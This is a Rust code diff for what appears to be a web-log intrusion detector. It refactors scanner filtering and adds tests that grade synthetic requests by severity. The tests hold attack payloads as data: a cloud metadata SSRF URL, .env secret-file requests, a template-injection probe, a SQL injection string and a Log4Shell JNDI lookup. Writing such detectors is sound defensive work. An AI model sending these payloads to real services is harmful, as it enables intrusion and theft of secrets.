@@ -7,6 +7,7 @@ use std::sync::Arc;
 use hashbrown::{HashMap, HashSet};
 use memchr::memmem::find;
 
+use super::published::Places;
 use super::{CROWD, Detector, Limit, Verdict};
 use crate::aims::Aims;
 use crate::apart::{Alone, Apart};
@@ -190,10 +191,11 @@ fn without_ordinary(profile: &Profile, findings: Vec<Finding>) -> Vec<Finding> {
     for finding in &kept {
         things.entry(finding.client_key).or_default().insert(finding.evidence[0].object);
     }
+    let is_scanner =
+        |finding: &Finding| things.get(&finding.client_key).is_some_and(|things| SCANNED_THINGS <= things.len());
     let mut readers: HashMap<u64, HashSet<u64>> = HashMap::new();
     for finding in kept.iter().filter(|finding| finding.status.is_some_and(is_answer)) {
-        let is_scanner = things.get(&finding.client_key).is_some_and(|things| SCANNED_THINGS <= things.len());
-        if !is_scanner {
+        if !is_scanner(finding) {
             readers.entry(finding.document_key()).or_default().insert(finding.client_key);
         }
     }
@@ -209,10 +211,11 @@ fn without_ordinary(profile: &Profile, findings: Vec<Finding>) -> Vec<Finding> {
         let is_few = |(count, clients): &(u64, HashSet<u64>)| *count <= LONE_MAX && clients.len() == 1;
         asked.get(&finding.document_key()).is_some_and(is_few) && !is_crawler(finding)
     };
+    let places = Places::of(kept.iter().filter(|finding| !is_scanner(finding)));
     let is_read = |finding: &Finding| {
         let aim = &finding.evidence[0];
-        aim.grade < Grade::Strong
-            && readers.get(&finding.document_key()).is_some_and(|readers| READERS <= readers.len())
+        let is_of_many = || readers.get(&finding.document_key()).is_some_and(|readers| READERS <= readers.len());
+        aim.grade < Grade::Strong && is_of_many() || places.have(finding)
     };
     for (place, finding) in kept.iter_mut().enumerate() {
         finding.place = place;
@@ -257,5 +260,95 @@ mod tests {
         assert_eq!(worst(&["Mozilla/5.0"]), Severity::Medium);
         assert_eq!(worst(&[crawler]), Severity::Low);
         assert!(worst(&["Mozilla/5.0", "curl/8.5"]) < Severity::Medium, "two know of it");
+    }
+
+    /// The worst of a log of a service that draws pages, where so many clients ask for this one and are refused.
+    fn refused(clients: usize, asked: &str) -> Severity {
+        let mut detector = Detector::default();
+        let mut observe = |offset: usize, page: &str, status| {
+            let (client, target) = (format!("192.0.2.{offset}"), format!("/v1/pdf?url={page}"));
+            let record = Record {
+                client: Some(client.as_bytes()),
+                agent: Some(b"Mozilla/5.0"),
+                target: Some(target.as_bytes()),
+                status: Some(status),
+                bytes: Some(if status == 200 { 90_000 + offset as u64 * 331 } else { 74 }),
+                ..Record::default()
+            };
+            let at = Position { offset: offset as u64, line: offset as u64, ..Position::default() };
+            detector.observe(at, &record);
+        };
+        (0..100).for_each(|number| observe(number, &format!("https://site{number}.example/print"), 200));
+        (100..100 + clients).for_each(|number| observe(number, asked, 400));
+        let incidents = detector.finish().incidents;
+        incidents.iter().map(|incident| incident.severity).max().unwrap_or(Severity::Info)
+    }
+
+    #[test]
+    fn what_many_ask_for_by_mistake_is_aimed_at_nothing() {
+        let own = "http://localhost:3000/print";
+        assert_eq!(refused(12, own), Severity::Low, "pages of one's own machine");
+        assert_eq!(refused(2, own), Severity::Medium, "two are no habit");
+        assert_eq!(refused(12, "http://169.254.169.254/latest/meta-data/"), Severity::Medium, "nobody's mistake");
+    }
+
+    #[test]
+    fn what_a_browser_is_given_to_read_is_published_and_what_it_is_made_of_is_not() {
+        let of = |target: &str, clients: usize| {
+            let mut detector = Detector::default();
+            for number in 0..clients {
+                let client = format!("192.0.2.{number}");
+                let record = Record {
+                    client: Some(client.as_bytes()),
+                    target: Some(target.as_bytes()),
+                    status: Some(200),
+                    bytes: Some(708),
+                    ..Record::default()
+                };
+                detector.observe(Position { offset: number as u64, ..Position::default() }, &record);
+            }
+            detector.finish().incidents.iter().map(|incident| incident.severity).max().unwrap_or(Severity::Info)
+        };
+        assert!(of("/static/js/env.js", 60) < Severity::Medium && of("/assets/env.json", 12) < Severity::Medium);
+        assert_eq!((of("/static/js/.env", 60), of("/env.production", 12)), (Severity::High, Severity::High));
+    }
+
+    /// The worst and its title, of a service that exports documents under a header, where one client gives these headers.
+    fn exported(headers: &[&str], status: u16) -> (Severity, String) {
+        let mut detector = Detector::default();
+        let mut observe = |offset: usize, client: &str, header: &str, status| {
+            let target = format!("/api/export?format=pdf&header={header}");
+            let record = Record {
+                client: Some(client.as_bytes()),
+                agent: Some(b"Mozilla/5.0"),
+                target: Some(target.as_bytes()),
+                status: Some(status),
+                bytes: Some(90_000 + offset as u64 * 331),
+                ..Record::default()
+            };
+            let at = Position { offset: offset as u64, line: offset as u64, ..Position::default() };
+            detector.observe(at, &record);
+        };
+        (0..100).for_each(|number| observe(number, &format!("192.0.2.{number}"), "Draft", 200));
+        for (number, header) in (100..).zip(headers) {
+            observe(number, "198.51.100.7", header, status);
+        }
+        let incidents = detector.finish().incidents;
+        let worst = incidents.iter().max_by_key(|incident| incident.severity).expect("an incident");
+        (worst.severity, worst.title.clone())
+    }
+
+    #[test]
+    fn a_template_that_reads_the_configuration_is_shown_and_what_is_sprayed_is_not() {
+        let config = "%7B%7Bconfig.items()%7D%7D";
+        assert_eq!(exported(&[config], 200).0, Severity::Medium);
+        assert_eq!(exported(&[config], 400).0, Severity::Low, "refused");
+        let sprayed =
+            exported(&[config, "x%27+union+select+password+from+users--", "%24%7Bjndi:ldap://x.example/a%7D"], 200);
+        assert_eq!(sprayed.0, Severity::Low, "{}", sprayed.1);
+        let answered = exported(&["x%27+union+select+password+from+users--"], 200);
+        assert!(!answered.1.contains("got nothing"), "{}", answered.1);
+        let refused = exported(&["x%27+union+select+password+from+users--"], 404);
+        assert!(refused.1.contains("got nothing"), "{}", refused.1);
     }
 }
